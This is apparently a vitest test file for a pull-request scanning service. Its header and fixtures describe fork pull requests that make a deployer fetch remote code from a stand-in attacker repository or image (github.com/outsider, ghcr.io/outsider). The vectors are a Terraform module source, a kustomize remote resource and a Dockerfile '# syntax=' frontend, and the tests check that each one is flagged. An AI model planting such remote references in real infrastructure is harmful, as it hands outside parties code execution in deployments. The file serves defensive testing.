/**
 * Attack (round three): a pull request that makes the deployer run code from outside the
 * repository, which no scan can read. The product already counts the same thing written as a link
 * ("a link that leaves the repository": `link out of the repository`, not judged) and names a
 * Terragrunt `terraform { source }` that is remote ("not scanned by this run"); written as a
 * module source, a kustomize resource or a Dockerfile frontend, it passes without a word:
 *
 * 1. `module "edge" { source = "git::https://github.com/outsider/modules.git//edge?ref=main" }`:
 *    `terraform init` fetches the fork owner's repository at a branch they can move after the
 *    merge, and `apply` creates what it says.
 * 2. `resources: [https://github.com/outsider/manifests//agent?ref=main]` in a kustomization:
 *    `kubectl apply -k` fetches and applies it (kustomize remote targets).
 * 3. `# syntax=ghcr.io/outsider/dockerfile:1` on the first line of a Dockerfile: BuildKit runs that
 *    image as the Dockerfile's frontend (Docker docs, "Custom Dockerfile syntax"), which decides
 *    what the instructions mean; the service judges the text as the standard frontend reads it.
 *
 * Each as a fork's pull request on `pull_request_target`, in process. Each fails on e7392c9: the
 * run says nothing at all. Each reference here is mutable and owned by the pull request's author
 * (a branch of their repository, a tag of their image): the choice made is that every address a
 * change adds is named in a notice (and the report's notes), and an unpinned one is not judged too
 * (`remote code, unpinned`, an error on a pull request); a module at a commit or a registry module
 * at an exact version is the notice alone, and the run passes (the last test).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ForkAttacks } from '../../support/fork-attacks.ts';

const harness = new ForkAttacks();
beforeAll(() => harness.start());
afterAll(() => harness.stop());

/** What the run says about a path: not judged, or a notice or warning naming it. */
function mentions(attack: Awaited<ReturnType<ForkAttacks['run']>>, needle: string): boolean {
  const { result, unjudged } = attack;
  return (
    Object.keys(unjudged).some((p) => p.includes(needle)) ||
    result.summary.includes(needle) ||
    JSON.stringify(result.report.notes ?? []).includes(needle)
  );
}

describe('code the deployer fetches from outside the repository is not passed silently', () => {
  it('a Terraform module from the fork owner’s git repository', async () => {
    const attack = await harness.run({
      'infra/edge.tf':
        'module "edge" {\n  source = "git::https://github.com/outsider/modules.git//edge?ref=main"\n}\n',
    });
    expect(mentions(attack, 'github.com/outsider'), 'the remote module is named').toBe(true);
    expect(attack.result.outputs.result).not.toBe('pass');
  });

  it('a kustomize resource from the fork owner’s repository', async () => {
    const attack = await harness.run(
      {
        'infra/k8s/kustomization.yaml':
          'resources:\n  - service.yaml\n  - https://github.com/outsider/manifests//agent?ref=main\n',
      },
      {
        base: {
          'infra/k8s/kustomization.yaml': 'resources:\n  - service.yaml\n',
          'infra/k8s/service.yaml': 'apiVersion: v1\nkind: Service\nmetadata:\n  name: web\n',
        },
      },
    );
    expect(mentions(attack, 'github.com/outsider'), 'the remote resource is named').toBe(true);
    expect(attack.result.outputs.result).not.toBe('pass');
  });

  it('a Dockerfile whose # syntax= directive names the fork owner’s frontend', async () => {
    const dockerfile = [
      '# syntax=ghcr.io/outsider/dockerfile:1',
      'FROM nginx:1.25',
      'USER 101',
      '',
    ].join('\n');
    const attack = await harness.run(
      { 'infra/web/Dockerfile': dockerfile },
      { base: { 'infra/web/Dockerfile': 'FROM nginx:1.25\nUSER 101\n' } },
    );
    expect(attack.uploaded).toContain('infra/web/Dockerfile');
    expect(mentions(attack, 'ghcr.io/outsider'), 'the custom frontend is named').toBe(true);
    expect(attack.result.outputs.result).not.toBe('pass');
  });

  it('a module pinned to a commit and a registry module at an exact version: a notice, and a pass', async () => {
    const sha = '0123456789abcdef0123456789abcdef01234567';
    const attack = await harness.run({
      'infra/edge.tf': [
        'module "edge" {',
        `  source = "git::https://github.com/outsider/modules.git//edge?ref=${sha}"`,
        '}',
        'module "vpc" {',
        '  source  = "terraform-aws-modules/vpc/aws"',
        '  version = "5.1.0"',
        '}',
        '',
      ].join('\n'),
    });
    expect(mentions(attack, 'github.com/outsider'), 'the pinned module is named').toBe(true);
    expect(mentions(attack, 'terraform-aws-modules/vpc/aws'), 'so is the registry one').toBe(true);
    expect(Object.keys(attack.unjudged)).toEqual([]);
    expect(attack.result.outputs.result).toBe('pass');
  });
});
